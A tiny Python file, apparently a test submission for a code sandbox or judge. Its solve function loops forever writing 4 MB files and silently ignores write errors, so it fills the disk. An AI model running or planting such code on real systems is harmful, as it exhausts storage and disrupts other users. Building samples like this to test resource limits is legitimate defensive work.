# ruff: noqa
# fmt: off
"""Writes files without end, and swallows the errors."""

def solve(n):
    number = 0
    while True:
        number += 1
        try:
            with open(f"large{number}", "wb") as file:
                file.write(b"x" * (1 << 22))
        except OSError:
            pass
